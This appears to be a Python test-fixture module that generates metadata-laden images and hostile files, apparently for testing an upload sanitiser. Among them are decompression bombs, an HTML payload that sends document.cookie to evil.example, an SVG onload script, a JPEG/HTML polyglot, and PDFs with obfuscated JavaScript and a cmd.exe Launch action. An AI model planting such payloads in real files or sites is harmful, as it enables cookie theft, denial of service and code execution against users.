"""Files as phones, people and attackers make them."""

import io
import struct
import zlib

from PIL import Image, PngImagePlugin

GPS_NOTE = b"Canary-Wharf-51.5054N"


def picture(size=(64, 48), colour="teal", mode="RGB") -> Image.Image:
    """Not one colour only, so that nothing is compressed to nothing."""
    made = Image.new(mode, size, colour)
    for x in range(0, size[0], 3):
        made.putpixel((x, x % size[1]), (x * 7 % 256, x * 13 % 256, 90) + ((128,) if mode == "RGBA" else ()))
    return made


def noise(size) -> Image.Image:
    """Points that no format makes small."""
    return Image.effect_noise(size, 120).convert("RGB")


def saved(image: Image.Image, format_name: str, **more) -> bytes:
    to = io.BytesIO()
    image.save(to, format_name, **more)
    return to.getvalue()


def located() -> Image.Exif:
    """EXIF with a place, a maker and a picture that has to be turned."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010F] = GPS_NOTE.decode()
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (51.0, 30.0, 19.0)
    exif.get_ifd(0x8825)[29] = GPS_NOTE.decode()
    return exif


def jpeg_with_place() -> bytes:
    return saved(picture(), "JPEG", exif=located(), comment=GPS_NOTE)


def png_with_place() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Location", GPS_NOTE.decode())
    notes.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{GPS_NOTE.decode()}</x:xmpmeta>")
    return saved(picture(), "PNG", pnginfo=notes, exif=located())


def webp_with_place() -> bytes:
    return saved(picture(), "WEBP", exif=located(), xmp=b"<x>" + GPS_NOTE + b"</x>")


def gif_with_place() -> bytes:
    frames = [picture(colour=colour) for colour in ("red", "green", "blue")]
    return saved(
        frames[0], "GIF", save_all=True, append_images=frames[1:], duration=[100, 200, 300], loop=0, comment=GPS_NOTE
    )


def png_bomb(side: int = 30_000) -> bytes:
    """A few bytes that say they are a picture of 900 million points."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


PAGE = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n%%EOF\n"
VCARD = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Mara Lindholm\r\nTEL:+12125550199\r\nEND:VCARD\r\n"
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42" + bytes(64)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def jpeg_with_page() -> bytes:
    """A picture for a viewer, a page for a browser that guesses."""
    return saved(picture(), "JPEG", comment=PAGE) + PAGE


def pdf_with_program(way: str) -> bytes:
    """A document that runs something, said openly, in code, or inside a compressed object stream."""
    active = {
        "plain": b"<</S/JavaScript/JS(app.alert(1))>>",
        "coded": b"<</S/J#61vaScript/J#53(app.alert(1))>>",
        "launch": b"<</S/Launch/F(cmd.exe)>>",
        "compressed": b"<</Length 9/Type/ObjStm/Filter/FlateDecode>>stream\n"
        + zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
        + b"\nendstream",
    }[way]
    return PDF.replace(b"%%EOF", b"3 0 obj" + active + b"endobj\n%%EOF")


def growing_gif(size=(8000, 8000), frames=3) -> bytes:
    """An animation that says it has one point, whose later pictures are much larger."""
    first, large = saved(Image.new("P", (1, 1)), "GIF"), saved(Image.new("P", size), "GIF")
    colours = 13 + 3 * (2 << (first[10] & 7))  # header, screen and table of colours
    return first[:-1] + large[colours:-1] * frames + b";"


def pdf_of_streams(streams: int, inside: bytes = b"") -> bytes:
    """A document of so many streams, each as short as can be."""
    return b"%PDF-1.7\n" + (b"stream\n" + inside) * streams + b"%%EOF"
